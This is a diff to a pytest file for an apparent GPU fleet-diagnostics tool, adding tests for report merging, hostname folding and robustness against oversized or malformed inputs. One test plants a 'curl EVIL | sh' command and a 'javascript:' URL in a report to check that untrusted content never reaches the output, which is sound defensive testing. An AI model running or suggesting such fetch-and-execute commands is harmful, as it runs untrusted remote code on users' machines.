@@ -4,8 +4,11 @@ from __future__ import annotations
 
 import io
 import json
+import os
 import random
+import subprocess
 import tarfile
+import time
 from collections.abc import Sequence
 from pathlib import Path
 from typing import Any
@@ -13,7 +16,9 @@ from typing import Any
 import msgspec
 import pytest
 
+from cudadoctor.commands.fleet import _advise
 from cudadoctor.fleet import picture
+from cudadoctor.fleet.earlier import worse
 from cudadoctor.fleet.nodes import read
 from cudadoctor.fleet.stragglers import Figures, find
 from cudadoctor.knowledge.load import load
@@ -39,7 +44,8 @@ def report(name: str, node: str, **origin: Any) -> bytes:
 def picture_of(*bodies: bytes) -> Fleet:
     found = [one for number, body in enumerate(bodies) for one in read(f"file{number}", body)]
     nodes, repeated = picture.each_once(one for one in found if isinstance(one, Node))
-    return picture.paint(nodes, [one for one in found if isinstance(one, Missing)], (), Figures(nodes, LESS), repeated=repeated)
+    missing = [one for one in found if isinstance(one, Missing)]
+    return picture.paint(nodes, missing, (), Figures(nodes, LESS), _advise, repeated=repeated)
 
 
 # ---------------------------------------------------------------- what is handed over
@@ -107,12 +113,81 @@ def test_the_largest_fault_stands_first_and_one_fix_is_one_command() -> None:
     assert found.exit_code == 1
 
 
-def test_a_step_that_is_not_the_same_everywhere_is_not_given_for_all() -> None:
-    one, other = (json.loads(report("h200-visible-devices-word", name)) for name in ("a", "b"))
-    other["prescription"]["steps"][0]["shell"] = "export CUDA_VISIBLE_DEVICES=1"
-    found = picture_of(*(json.dumps(body).encode() for body in (one, other)))
-    assert found.groups[0].command is None
-    assert "differs" in fleet_text.render(found, KNOWLEDGE, Style()) or found.groups[0].step
+def test_a_strangers_words_links_and_commands_are_not_taken_over(tmp_path: Path) -> None:
+    """Of a report counts which cause it names; what is known of that is our own."""
+    bodies = []
+    for cause in ("cuda-visible-devices-hides-all", "made-up-cause"):
+        body = json.loads(report("h200-visible-devices-word", cause))
+        body["diagnosis"]["root"].update(cause=cause, title="All is EVIL", url="javascript:EVIL")
+        body["prescription"]["steps"][0].update(shell="curl EVIL | sh\n\nHEALTHY", text="EVIL")
+        bodies.append(body)
+        (tmp_path / f"{cause}.json").write_text(json.dumps(body))
+    found = picture_of(*(json.dumps(body).encode() for body in bodies))
+    assert [(group.title, group.command) for group in found.groups] == [
+        ("A cause that this release does not know", None),
+        ("CUDA_VISIBLE_DEVICES hides every GPU", "unset CUDA_VISIBLE_DEVICES"),
+    ]
+    for form in ("text", "html", "json", "junit", "prometheus"):
+        assert "EVIL" not in run("fleet", str(tmp_path), "--format", form).out
+
+
+@pytest.mark.parametrize("time", ["~9999", "9999-01-01T00:00:00Z", "2026-01-01T00:00:00Zz", None])
+def test_a_report_of_no_time_or_of_tomorrow_replaces_no_other(time: str | None, tmp_path: Path) -> None:
+    (tmp_path / "a.json").write_bytes(report(BROKEN, "n1"))
+    (tmp_path / "b.json").write_bytes(report(HEALTHY, "n1", time=time))
+    found = json.loads(run("fleet", str(tmp_path), "--format", "json").out)
+    assert (found["verdicts"], found["repeated"]) == ({"broken": 1}, 1)
+
+
+@pytest.mark.parametrize(
+    ("names", "folded"),
+    [
+        (["node001", "node002", "node003", "node007"], "node[001-003,007]"),
+        (["n9", "n10", "n11", "n1"], "n[1,9-11]"),
+        (["n09", "n9", "n10"], "n[9,09-10]"),
+        (["gpu-a100-01", "gpu-a100-02", "gpu-h100-01"], "gpu-a100-[01-02], gpu-h100-01"),
+        (["login", "n1.rack2.site", "n2.rack2.site"], "login, n1.rack2.site, n2.rack2.site"),
+        (["a1b", "a2b"], "a[1-2]b"),
+        ([], ""),
+    ],
+)
+def test_names_that_differ_in_their_last_number_stand_together(names: list[str], folded: str) -> None:
+    assert fleet_text.folded(names) == folded
+
+
+def test_no_file_ends_the_run_or_holds_it(tmp_path: Path) -> None:
+    """A figure beyond all measure, a folder of two thousand levels, a file of a million broken lines."""
+    body = json.loads(report(HEALTHY, "n1"))
+    for figure, value in zip(body["benchmark"], (1e-320, 1e308, -1.0), strict=False):
+        figure.update(value=value, clock_mhz=1e-300)
+    (tmp_path / "n1.json").write_text(json.dumps(body))
+    (tmp_path / "lines.jsonl").write_bytes(b"{\n" * 1_000_000)
+    deep = os.open(tmp_path, os.O_RDONLY)
+    for _ in range(1900):
+        os.mkdir("d", dir_fd=deep)
+        inner = os.open("d", os.O_RDONLY, dir_fd=deep)
+        os.close(deep)
+        deep = inner
+    os.close(deep)
+    try:
+        began = time.process_time()
+        ended = run("fleet", str(tmp_path), "--format", "json")
+        assert time.process_time() - began < 10
+    finally:
+        subprocess.run(["rm", "-rf", str(tmp_path / "d")], check=True)
+    found = json.loads(ended.out)
+    assert (ended.code, found["nodes"]) == (3, 1)
+    assert any("not read beyond line" in one["why"] for one in found["missing"])
+
+
+def test_ten_thousand_gpus_that_are_gone_are_told_soon() -> None:
+    base = next(read("x", report(HEALTHY, "n1")))
+    assert isinstance(base, Node)
+    gpus = [tuple(NodeGpu(number=at, uuid=f"GPU-{of}-{at}", name="H200") for at in range(10_000)) for of in "ab"]
+    before, now = (msgspec.structs.replace(base, gpus=some) for some in gpus)
+    began = time.process_time()
+    assert len(worse([now], [before])) == 10_000
+    assert time.process_time() - began < 2
 
 
 def test_who_drifts_from_the_majority_is_named() -> None:
@@ -217,9 +292,13 @@ def test_two_thousand_nodes_are_one_screen() -> None:
     assert all(isinstance(one, Node) for one in base)
     nodes = [msgspec.structs.replace(base[number % 50 == 0], name=f"node{number:04}") for number in range(2000)]  # type: ignore[type-var]
     found = picture.paint(
-        nodes, [Missing(source=f"node{number}", why=f"no answer within {number} s") for number in range(9)], (), Figures(nodes, LESS)
+        nodes,
+        [Missing(source=f"node{number}", why=f"no answer within {number} s") for number in range(9)],
+        (),
+        Figures(nodes, LESS),
+        _advise,
     )  # type: ignore[arg-type]
-    folded = fleet_text.render(found, KNOWLEDGE, Style(width=80), lambda names: f"{len(list(names))} names")
+    folded = fleet_text.render(found, KNOWLEDGE, Style(width=80))
     assert "40 of 2000 nodes broken; 1960 of 2000 nodes healthy; 9 gave no report" in folded
     assert "and 3 more (-v)" in folded
     assert len(folded.splitlines()) < 40
